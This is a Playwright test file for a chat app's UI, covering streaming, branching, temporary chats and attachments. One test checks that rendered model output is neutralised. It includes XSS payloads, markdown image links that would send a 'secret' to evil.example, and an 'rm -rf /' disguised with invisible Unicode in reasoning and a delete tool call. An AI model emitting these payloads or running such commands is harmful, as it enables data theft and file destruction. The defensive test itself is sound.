/** Chats: new, streamed, stopped, branched, and seen by two users. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Page } from 'playwright-core'
import { proxyTo } from '../../link/proxy.ts'
import { needs } from '../../needs.ts'
import { testServer } from '../../server.ts'
import { becomes, until } from '../../until.ts'
import { hasChromium, sharedBrowser, visit } from '../browser.ts'
import { signIn } from '../steps.ts'

const browser = sharedBrowser()
const environment = { UK_SIM: 'on' }

const log = (page: Page) => page.getByRole('log', { name: 'Messages' })
const field = (page: Page) => page.getByRole('textbox', { name: 'Message' })
/** An image of one pixel. */
const DOT = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
const script = (...steps: object[]): string => JSON.stringify({ steps })

test(
  'chats stream responses and branch on edits, and temporary chats are listed once they are kept',
  needs(hasChromium, 'Chromium'),
  async () => {
    await using server = await testServer({ environment })
    const alice = await server.person('Alice')
    await using visitor = await visit(browser(), server.origin)
    const { page } = visitor
    /** Requests that failed with 404. */
    const missing: string[] = []
    page.on('response', (response) => response.status() === 404 && missing.push(response.url()))
    await signIn(page, alice)
    await page.goto('/app/chats')
    await page.getByRole('heading', { level: 1, name: 'Chats' }).waitFor()
    await page.getByRole('button', { name: /^Model/ }).click()
    await page.getByRole('combobox', { name: 'Search models' }).fill('echo')
    await page.getByRole('option', { name: /sim\/echo/ }).click()
    await field(page).fill('# Views\n\nof **the mountain**')
    await page.keyboard.press('Enter')
    await page.waitForURL(/\/app\/chats\/\w{26}$/)
    await log(page).getByRole('heading', { name: 'Views' }).waitFor()
    await becomes(() => log(page).locator('strong', { hasText: 'the mountain' }).count(), 1)

    await log(page).getByRole('button', { name: 'More actions for this message by You' }).press('Enter')
    await page.getByRole('menuitem', { name: 'Edit' }).click()
    await field(page).fill('of the lake')
    await page.keyboard.press('Enter')
    await log(page).getByText('of the lake').nth(1).waitFor()
    await log(page).getByText('2/2').waitFor()
    // By keyboard: the response may still grow and move a click target.
    await log(page).getByRole('button', { name: 'Previous branch' }).press('Enter')
    await log(page).getByRole('heading', { name: 'Views' }).waitFor()
    await becomes(() => log(page).getByText('of the lake').count(), 0)

    await page.reload()
    await log(page).getByRole('heading', { name: 'Views' }).waitFor()

    await page.goto('/app/chats')
    const temporary = page.getByRole('button', { name: 'Temporary', exact: true })
    const edge =
      "getComputedStyle([...document.querySelectorAll('button')].find((one) => one.textContent === 'Temporary')).borderColor"
    const shown = () => page.evaluate<string>(edge)
    await temporary.waitFor()
    // Text and attachments survive the switch to a temporary chat; nothing stays in the drive.
    const uploads = async (): Promise<string[]> =>
      (await alice.get(`/drive/files?workspace_id=${alice.workspaceId}&kind=file`)).body.data.map(
        ({ name }: { name: string }) => name,
      )
    await field(page).fill('Between us')
    const picture = { name: 'dot.png', mimeType: 'image/png', buffer: Buffer.from(DOT, 'base64') }
    await page.locator('input[type=file]').setInputFiles(picture)
    await until(uploads, ([name]) => name === 'dot.png')
    const before = await shown()
    await temporary.click()
    await page.getByText('deleted 24 hours after the last message').waitFor()
    await page.mouse.move(0, 0)
    await until(shown, (now) => now !== before)
    // Without a choice, the page shows the default model.
    await page.getByRole('button', { name: 'Model: sim/echo · server default' }).waitFor()
    await page.getByRole('list', { name: 'Attached files' }).getByText('dot.png').waitFor()
    await page.getByText('uploading …').waitFor({ state: 'detached' })
    await until(uploads, ({ length }) => length === 0)
    await field(page).press('Enter')
    const strip = page.getByRole('region', { name: 'Temporary chat' })
    await strip.waitFor()
    await log(page).getByText('Between us').nth(1).waitFor()
    await log(page).getByRole('img', { name: 'Image' }).waitFor()
    const listed = async (): Promise<number> => (await alice.get('/chats')).body.data.length
    assert.equal(await listed(), 1)
    assert.deepEqual((await alice.get(`/drive/files?status=trashed&workspace_id=${alice.workspaceId}`)).body.data, [])
    await strip.getByRole('button', { name: 'Keep chat' }).click()
    await strip.waitFor({ state: 'detached' })
    assert.equal(await listed(), 2)
    assert.deepEqual(missing, [])

    // Deleting asks for confirmation; errors are shown and can be retried.
    const other = (await alice.post('/chats', { title: 'Hush', temporary: true })).body.data.id
    await page.goto(`/app/chats/${other}`)
    await page.route('**/permanent-delete', (route) => route.abort(), { times: 1 })
    await page.getByRole('button', { name: 'More actions for this chat' }).click()
    await page.getByRole('menuitem', { name: 'Delete permanently' }).click()
    const asked = page.getByRole('alertdialog', { name: 'Delete chat permanently?' })
    await asked.getByRole('button', { name: 'Delete permanently' }).press('Enter')
    await asked.getByText('The server can’t be reached').waitFor()
    assert.equal((await alice.get(`/chats/${other}`)).body.data.status, 'trashed')
    await asked.getByRole('button', { name: 'Delete permanently' }).press('Enter')
    await page.waitForURL(/\/app\/chats$/)
    assert.equal((await alice.get(`/chats/${other}`)).status, 404)
    assert.deepEqual(
      visitor.wrongs.filter((wrong) => !wrong.includes('net::ERR_FAILED')),
      [],
    )
  },
)

test(
  'a streaming response survives connection losses and reloads, and can be stopped in another window',
  needs(hasChromium, 'Chromium'),
  async () => {
    await using server = await testServer({ environment })
    const alice = await server.person('Alice')
    const chat = (await alice.post('/chats', { title: 'Slow', model: 'sim/script' })).body.data
    await using way = await proxyTo(server.origin)
    await using first = await visit(browser(), way.origin)
    await using second = await visit(browser(), server.origin)
    for (const { page } of [first, second]) {
      await signIn(page, alice)
      // One window uses an address with a lowercase ID.
      await page.goto(`/app/chats/${page === second.page ? chat.id.toLowerCase() : chat.id}`)
      await page.waitForURL((url) => url.pathname === `/app/chats/${chat.id}`)
      await page.getByText('No messages yet.').waitFor()
    }
    await field(first.page).fill(script({ text: 'The first words. ' }, { delay_ms: 60_000 }, { text: 'The last.' }))
    await first.page.keyboard.press('Enter')
    await log(first.page).getByText('The first words.', { exact: true }).waitFor()
    await log(second.page).getByText('The first words.', { exact: true }).waitFor()
    // Without a connection, the text so far stays, and streaming resumes.
    way.to('http://127.0.0.1:9')
    way.cut()
    await first.page.getByText('Connecting …', { exact: true }).waitFor()
    await becomes(() => log(first.page).getByText('The first words.', { exact: true }).isVisible(), true)
    way.to(server.origin)
    await first.page.getByText('Connecting …', { exact: true }).waitFor({ state: 'detached' })
    await log(first.page).getByText('The first words.', { exact: true }).waitFor()
    await first.page.reload()
    await log(first.page).getByText('The first words.', { exact: true }).waitFor()
    await second.page.getByRole('button', { name: 'Stop (Esc)' }).click()
    for (const { page } of [first, second]) await page.getByText('The response was stopped.').waitFor()
    const cut = first.wrongs.filter((wrong) => !/net::ERR_|WebSocket/.test(wrong))
    assert.deepEqual([...cut, ...second.wrongs], [])
  },
)

test(
  'an attached file is sent with its own message, and a file attached during a response waits for the next one',
  needs(hasChromium, 'Chromium'),
  async () => {
    await using server = await testServer({ environment })
    const alice = await server.person('Alice')
    const chat = (await alice.post('/chats', { title: 'Files', model: 'sim/script' })).body.data
    await using visitor = await visit(browser(), server.origin)
    const { page } = visitor
    await signIn(page, alice)
    await page.goto(`/app/chats/${chat.id}`)
    await page.getByText('No messages yet.').waitFor()
    const attached = page.getByRole('list', { name: 'Attached files' })
    const attach = async (name: string): Promise<void> => {
      await page.locator('input[type=file]').setInputFiles({ name, mimeType: 'text/csv', buffer: Buffer.from('a,b\n') })
      await attached.getByText(name).waitFor()
      await page.getByText('uploading …').waitFor({ state: 'detached' })
    }
    await attach('first.csv')
    await field(page).fill(script({ text: 'Reading it. ' }, { delay_ms: 60_000 }, { text: 'Done.' }))
    await page.getByRole('button', { name: 'Send (Enter)' }).click()
    await log(page).getByText('Reading it.', { exact: true }).waitFor()
    await becomes(() => attached.count(), 0)
    await attach('second.csv')
    await page.getByRole('button', { name: 'Stop (Esc)' }).click()
    await page.getByText('The response was stopped.').waitFor()
    await attached.getByText('second.csv').waitFor()
    assert.deepEqual(visitor.wrongs, [])
  },
)

test(
  'model output cannot run scripts, inject HTML or load external resources',
  needs(hasChromium, 'Chromium'),
  async () => {
    await using server = await testServer({ environment })
    const alice = await server.person('Alice')
    const hostile = [
      '<img src=x onerror=alert(1)><script>alert(2)</script>',
      '![stolen](https://evil.example/?words=secret) [bank](https://evil.example "t") [https://bank.example](https://evil.example)',
      '[run](javascript:alert(3)) [data](data:text/html,x) <https://evil.example/auto>',
      '`a\u202eb` ' + '> '.repeat(500) + 'deep',
      '| a | b |\n|---|---|\n| <b>x</b> | ![p](//evil.example/p.png) |',
      `${'- '.repeat(300)}deep list`,
      '[one]: https://evil.example/defined\n\n[one] ![two][one] <https://user:pass@evil.example> https://evil.example/bare',
      '<svg onload=alert(4)><use href="https://evil.example/s.svg#a"/></svg><iframe srcdoc="<script>alert(5)</script>"></iframe>',
      '<style>@import url(https://evil.example/c.css)</style><base href="https://evil.example"><meta http-equiv=refresh content="0;url=https://evil.example">',
      '$\\href{https://evil.example}{x}$ $\\includegraphics{https://evil.example/i.png}$ $$\\rule{9999em}{9999em}$$',
      `${'['.repeat(2_000)}x${']'.repeat(2_000)} ${'*'.repeat(2_000)} ${'`'.repeat(2_000)}`,
    ].join('\n\n')
    const chat = (await alice.post('/chats', { title: 'Hostile', model: 'sim/script' })).body.data
    const hidden = 'rm \u202e\u2066-rf\u2069 \u{e0041}\u200b/'
    const steps = [
      { reasoning: hidden },
      { text: hostile },
      { tool_call: { name: 'delete', arguments: { path: hidden } } },
    ]
    await alice.post(`/chats/${chat.id}/messages`, { content: JSON.stringify({ turns: [steps, [{ text: 'Done.' }]] }) })
    await using visitor = await visit(browser(), server.origin)
    const { page } = visitor
    await signIn(page, alice)
    await page.goto(`/app/chats/${chat.id}`)
    const answer = log(page).getByRole('article', { name: /^sim\/script/ })
    await answer.getByText('<script>alert(2)</script>').waitFor()
    await becomes(() => answer.locator('img, script, iframe').count(), 0)
    const links = await answer.locator('a').evaluateAll((all) => all.map((one) => one.getAttribute('href')))
    assert.ok(links.length > 0 && links.every((href) => href?.startsWith('https://')), links.join())
    await answer.getByText('(evil.example)').waitFor()
    await answer.locator('.prose code', { hasText: '⟨U+202E⟩' }).waitFor()
    // Invisible characters become visible in code, reasoning and tool input.
    const plain = 'rm ⟨U+202E⟩⟨U+2066⟩-rf⟨U+2069⟩ ⟨U+E0041⟩⟨U+200B⟩/'
    const reasoning = answer.getByText(plain, { exact: true }).first()
    await until(
      async () => {
        // It is expanded while streaming.
        if (!(await reasoning.isVisible())) await answer.getByText('Reasoning').click()
        return reasoning.isVisible()
      },
      (isVisible) => isVisible,
    )
    await answer.getByText('delete', { exact: true }).click()
    await answer.getByText(`"path": "${plain}"`).waitFor()
    assert.deepEqual(visitor.wrongs, [])
  },
)
